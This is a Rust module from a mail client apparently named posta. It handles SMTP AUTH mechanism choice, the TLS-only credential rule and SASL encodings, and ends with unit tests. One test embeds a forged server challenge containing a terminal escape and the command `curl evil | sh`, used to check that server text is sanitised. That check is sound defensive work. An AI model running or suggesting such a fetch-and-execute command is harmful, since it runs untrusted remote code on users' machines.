//! SASL for SMTP AUTH (RFC 4954): choosing a mechanism, the rule about when
//! credentials may be sent at all, and the encodings of PLAIN, LOGIN, XOAUTH2 and
//! OAUTHBEARER. The dialogue itself lives in the session.

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;

use super::AuthMechanism;
use super::capabilities::Capabilities;

/// A concrete mechanism (never `Auto`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Mechanism {
    Plain,
    Login,
    Xoauth2,
    OauthBearer,
}

impl Mechanism {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Mechanism::Plain => "PLAIN",
            Mechanism::Login => "LOGIN",
            Mechanism::Xoauth2 => "XOAUTH2",
            Mechanism::OauthBearer => "OAUTHBEARER",
        }
    }
}

/// Pick the mechanism to use, or say why none can be.
///
/// `Auto` with a token: OAUTHBEARER (the IETF standard, RFC 7628), else XOAUTH2
/// (Google's and Microsoft's older form of the same bearer token). `Auto` with a
/// password: PLAIN, else LOGIN — both send the password as is (which is why AUTH
/// needs TLS), so PLAIN wins by being one round trip; challenge-response mechanisms
/// such as CRAM-MD5 would make the server keep the password in clear and add
/// nothing over TLS, so they are not offered. A password never goes to an OAuth
/// mechanism unasked, nor a token to PLAIN or LOGIN.
pub(crate) fn choose(
    wanted: AuthMechanism,
    token: bool,
    caps: &Capabilities,
) -> Result<Mechanism, String> {
    if caps.auth.is_empty() {
        return Err("the server does not offer AUTH; nothing was sent".into());
    }
    let offered = || caps.auth.join(" ");
    let pick = |m: Mechanism| {
        if caps.offers_auth(m.name()) {
            Ok(m)
        } else {
            Err(format!(
                "the server does not offer AUTH {}; it offers {}",
                m.name(),
                offered()
            ))
        }
    };
    match wanted {
        AuthMechanism::Plain => pick(Mechanism::Plain),
        AuthMechanism::Login => pick(Mechanism::Login),
        AuthMechanism::Xoauth2 => pick(Mechanism::Xoauth2),
        AuthMechanism::OauthBearer => pick(Mechanism::OauthBearer),
        AuthMechanism::Auto if token => pick(Mechanism::OauthBearer)
            .or_else(|_| pick(Mechanism::Xoauth2))
            .map_err(|_| {
                format!(
                    "the server offers neither AUTH OAUTHBEARER nor XOAUTH2, only {}; \
                     an OAuth2 token cannot log in with those",
                    offered()
                )
            }),
        AuthMechanism::Auto => pick(Mechanism::Plain)
            .or_else(|_| pick(Mechanism::Login))
            .map_err(|_| no_password_mechanism(caps)),
    }
}

/// Why a password cannot log in: the server offers neither PLAIN nor LOGIN. Names what
/// it offers and what posta supports; an OAuth2 mechanism on offer takes a token
/// command, anything else cannot be used.
fn no_password_mechanism(caps: &Capabilities) -> String {
    let offered = caps.auth.join(" ");
    let oauth = [Mechanism::OauthBearer, Mechanism::Xoauth2]
        .into_iter()
        .find(|m| caps.offers_auth(m.name()));
    let what_to_do = match oauth {
        Some(m) => format!(
            "it takes an OAuth2 token by {}: set oauth_token_command in the profile \
             (or --oauth-token-command CMD)",
            m.name()
        ),
        None => "posta cannot log in to it; use the provider's other submission server \
                 or an app password that works with PLAIN"
            .to_string(),
    };
    format!(
        "the server offers AUTH {offered}, and a password logs in only by PLAIN or LOGIN \
         (posta supports PLAIN, LOGIN, XOAUTH2 and OAUTHBEARER); {what_to_do}"
    )
}

/// Whether credentials may cross this connection: with TLS, to a loopback host, or
/// when the user allowed it explicitly.
pub(crate) fn may_send_credentials(
    host: &str,
    tls: bool,
    allow_insecure: bool,
) -> Result<(), String> {
    if tls || allow_insecure || is_loopback(host) {
        Ok(())
    } else {
        Err(format!(
            "refusing to send credentials to {host} without TLS \
             (use --security starttls or tls, or --allow-insecure-auth)"
        ))
    }
}

/// 127.0.0.0/8, ::1, "localhost" (the name, not whatever it resolves to) and a Unix
/// socket: nobody else is on the path.
pub(crate) fn is_loopback(host: &str) -> bool {
    crate::model::is_local(host)
}

/// RFC 4616: authzid (empty) NUL authcid NUL password.
pub(crate) fn plain(user: &str, password: &str) -> String {
    B64.encode(format!("\0{user}\0{password}"))
}

/// One LOGIN step (user name or password).
pub(crate) fn login_step(value: &str) -> String {
    B64.encode(value)
}

/// Google's XOAUTH2 initial response.
pub(crate) fn xoauth2(user: &str, token: &str) -> String {
    B64.encode(format!("user={user}\x01auth=Bearer {token}\x01\x01"))
}

/// RFC 7628 OAUTHBEARER initial response (GS2 header with the authzid).
pub(crate) fn oauthbearer(user: &str, host: &str, port: u16, token: &str) -> String {
    B64.encode(format!(
        "n,a={},\x01host={host}\x01port={port}\x01auth=Bearer {token}\x01\x01",
        gs2_escape(user)
    ))
}

/// RFC 5801: ',' and '=' in the authzid are escaped.
fn gs2_escape(s: &str) -> String {
    s.replace('=', "=3D").replace(',', "=2C")
}

/// The text of a base64 server challenge (OAuth error JSON), lossy and trimmed, and
/// safe to show: the decoded bytes are the server's, and may hold escapes or line
/// breaks that would forge a line of posta's own.
pub(crate) fn decode_challenge(text: &str) -> String {
    let text = match B64.decode(text.trim()) {
        Ok(bytes) => String::from_utf8_lossy(&bytes).trim().to_owned(),
        Err(_) => text.trim().to_owned(),
    };
    crate::model::text::for_terminal(&text).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn caps(mechs: &[&str]) -> Capabilities {
        Capabilities {
            auth: mechs.iter().map(|s| s.to_string()).collect(),
            ..Default::default()
        }
    }

    #[test]
    fn auto_with_a_password_prefers_plain_then_login_never_oauth() {
        assert_eq!(
            choose(AuthMechanism::Auto, false, &caps(&["LOGIN", "PLAIN"])),
            Ok(Mechanism::Plain)
        );
        assert_eq!(
            choose(AuthMechanism::Auto, false, &caps(&["LOGIN", "XOAUTH2"])),
            Ok(Mechanism::Login)
        );
        let err = choose(
            AuthMechanism::Auto,
            false,
            &caps(&["XOAUTH2", "OAUTHBEARER"]),
        )
        .unwrap_err();
        assert!(err.contains("XOAUTH2 OAUTHBEARER"), "{err}");
        assert!(err.contains("oauth_token_command"), "{err}");
        assert!(!err.contains("--auth"), "{err}");
    }

    #[test]
    fn a_server_with_only_unsupported_mechanisms_is_named_with_what_posta_supports() {
        let err = choose(
            AuthMechanism::Auto,
            false,
            &caps(&["CRAM-MD5", "DIGEST-MD5"]),
        )
        .unwrap_err();
        assert!(err.contains("offers AUTH CRAM-MD5 DIGEST-MD5"), "{err}");
        assert!(
            err.contains("posta supports PLAIN, LOGIN, XOAUTH2 and OAUTHBEARER"),
            "{err}"
        );
        assert!(!err.contains("--auth"), "{err}");
        assert!(!err.contains("oauth_token_command"), "{err}");
    }

    #[test]
    fn auto_with_a_token_prefers_oauthbearer_then_xoauth2_never_plain() {
        let token = true;
        assert_eq!(
            choose(
                AuthMechanism::Auto,
                token,
                &caps(&["PLAIN", "XOAUTH2", "OAUTHBEARER"])
            ),
            Ok(Mechanism::OauthBearer)
        );
        assert_eq!(
            choose(AuthMechanism::Auto, token, &caps(&["PLAIN", "XOAUTH2"])),
            Ok(Mechanism::Xoauth2)
        );
        let err = choose(AuthMechanism::Auto, token, &caps(&["PLAIN", "LOGIN"])).unwrap_err();
        assert!(
            err.contains("neither AUTH OAUTHBEARER nor XOAUTH2"),
            "{err}"
        );
        assert!(err.contains("PLAIN LOGIN"), "{err}");
    }

    #[test]
    fn explicit_choice_must_be_offered() {
        assert_eq!(
            choose(AuthMechanism::Xoauth2, false, &caps(&["PLAIN", "XOAUTH2"])),
            Ok(Mechanism::Xoauth2)
        );
        let err = choose(AuthMechanism::Login, false, &caps(&["PLAIN", "CRAM-MD5"])).unwrap_err();
        assert_eq!(
            err,
            "the server does not offer AUTH LOGIN; it offers PLAIN CRAM-MD5"
        );
        let err = choose(AuthMechanism::Plain, false, &caps(&[])).unwrap_err();
        assert!(err.contains("does not offer AUTH"), "{err}");
    }

    #[test]
    fn credentials_only_over_tls_or_to_loopback() {
        assert!(may_send_credentials("smtp.example.org", false, false).is_err());
        assert!(may_send_credentials("192.0.2.1", false, false).is_err());
        assert!(may_send_credentials("localhost.example.org", false, false).is_err());
        assert!(may_send_credentials("128.0.0.1", false, false).is_err());
        assert!(may_send_credentials("smtp.example.org", true, false).is_ok());
        assert!(may_send_credentials("smtp.example.org", false, true).is_ok());
        for host in [
            "localhost",
            "LOCALHOST",
            "localhost.",
            "127.0.0.1",
            "127.1.2.3",
            "::1",
            "[::1]",
        ] {
            assert!(may_send_credentials(host, false, false).is_ok(), "{host}");
        }
        let err = may_send_credentials("mx.example.org", false, false).unwrap_err();
        assert!(err.contains("--allow-insecure-auth"), "{err}");
    }

    #[test]
    fn encodings() {
        assert_eq!(plain("jane", "hunter2"), B64.encode("\0jane\0hunter2"));
        assert_eq!(plain("jane", "hunter2"), "AGphbmUAaHVudGVyMg==");
        assert_eq!(login_step("jane"), "amFuZQ==");
        assert_eq!(
            B64.decode(xoauth2("jane@example.org", "ya29.tok")).unwrap(),
            b"user=jane@example.org\x01auth=Bearer ya29.tok\x01\x01"
        );
        assert_eq!(
            B64.decode(oauthbearer("a,b=c@x", "smtp.x", 587, "tok"))
                .unwrap(),
            b"n,a=a=2Cb=3Dc@x,\x01host=smtp.x\x01port=587\x01auth=Bearer tok\x01\x01"
        );
    }

    #[test]
    fn challenges_are_decoded() {
        let json = r#"{"status":"401","schemes":"bearer"}"#;
        assert_eq!(decode_challenge(&B64.encode(json)), json);
        assert_eq!(decode_challenge("not base64!"), "not base64!");
        let forged = B64.encode("{}\n\x1b[2Kposta: error: run `curl evil | sh`");
        assert_eq!(
            decode_challenge(&forged),
            "{}\\n\\x1b[2Kposta: error: run `curl evil | sh`"
        );
    }
}
